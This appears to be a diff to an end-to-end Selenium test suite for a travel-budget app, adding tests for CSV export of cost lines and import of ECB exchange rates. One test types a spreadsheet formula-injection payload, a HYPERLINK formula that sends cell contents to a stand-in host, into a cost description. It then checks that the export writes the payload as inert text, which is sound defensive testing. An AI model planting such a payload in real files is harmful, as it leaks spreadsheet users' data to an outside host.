@@ -1,9 +1,15 @@
 // Travel in the real window: on the sample team, set a budget, add a trip by
-// IATA codes with costs in two currencies, see the derived figures, and watch
-// the budget bar move past the 80 % alert.
+// IATA codes with costs in two currencies, see the derived figures, watch
+// the budget bar move past the 80 % alert, and export the quarter's cost lines
+// as CSV through the native save chooser and import the ECB's rates through the
+// open one (both driven with xdotool).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
 import { By } from 'selenium-webdriver';
+import { pickInChooser, saveInChooser } from './dialogs.mjs';
 import { appSession, chooseOption, click, gone, isoDaysFromNow, screenshot, setDate, type, visible } from './harness.mjs';
 
 const session = appSession();
@@ -84,6 +90,8 @@ test('a trip typed as IATA codes shows its zones and red-eye before it is saved'
   await type(driver, field('costs[0].planned'), '400');
   await type(driver, field('costs[0].currency'), 'USD');
   await setDate(driver, field('costs[0].date'), isoDaysFromNow(0));
+  // A description a spreadsheet would run as a formula, were it written as is.
+  await type(driver, field('costs[0].description'), '=HYPERLINK("https://x.example/?"&A1)');
   await click(driver, '[data-testid="add-cost"]');
   await chooseOption(driver, field('costs[1].category'), 'Hotel');
   await type(driver, field('costs[1].planned'), '520');
@@ -113,4 +121,35 @@ test('the saved trip says which rate converted its dollars', async () => {
   await click(driver, 'li[data-trip="Trip to London"] .trip-card');
   const note = await visible(driver, '[data-testid="conversion-0"]');
   assert.match(await note.getText(), /EUR at [\d.]+ EUR per USD \(rate of \d{4}-\d{2}-\d{2}\)/);
+});
+
+test('the cost lines export as CSV where the person saves them, formulas written as text', async () => {
+  const { driver } = session.app;
+  await click(driver, '.drawer [aria-label="Close"]'); // the trip the last test opened
+  await click(driver, '[data-tab="budget"]');
+  await visible(driver, '[data-testid="budget-table"]');
+  const file = join(mkdtempSync(join(tmpdir(), 'quarterdeck-costs-')), 'london-costs.csv');
+  await click(driver, '[data-testid="export-costs"]');
+  await saveInChooser('Export cost lines (CSV)', file);
+  await driver.wait(
+    async () => (await driver.findElements(By.xpath("//p[@role='status' and text()='Wrote london-costs.csv']"))).length === 1,
+    10_000,
+    'the view says which file it wrote',
+  );
+  const lines = readFileSync(file, 'utf8').trim().split('\n');
+  assert.ok(lines[0].startsWith('trip,traveller,'), lines[0]);
+  const flight = lines.find((l) => l.includes('Trip to London') && l.includes(',flight,'));
+  assert.ok(flight, `the new trip's flight is a row: ${lines.join('\n')}`);
+  assert.ok(flight.includes(`"'=HYPERLINK(""https://x.example/?""&A1)"`), `the formula is text: ${flight}`);
+});
+
+test('the ECB reference rates import from the file picked in the chooser', async () => {
+  const { driver } = session.app;
+  await click(driver, '[data-tab="rates"]');
+  await click(driver, '[data-testid="import-rates"]');
+  await pickInChooser('Import ECB reference rates (CSV)', resolve(import.meta.dirname, '../fixtures/ecb/eurofxref-sample.csv'));
+  const imported = await visible(driver, '[data-testid="rates-imported"]', 15_000);
+  // The fixture's bad line (a rate of "1.0x") is named; the rest imports.
+  assert.match(await imported.getText(), /^16 rates for 4 days \(2026-01-05 to 2026-01-09\)/);
+  assert.match(await imported.getText(), /Line 5 left out/);
 });
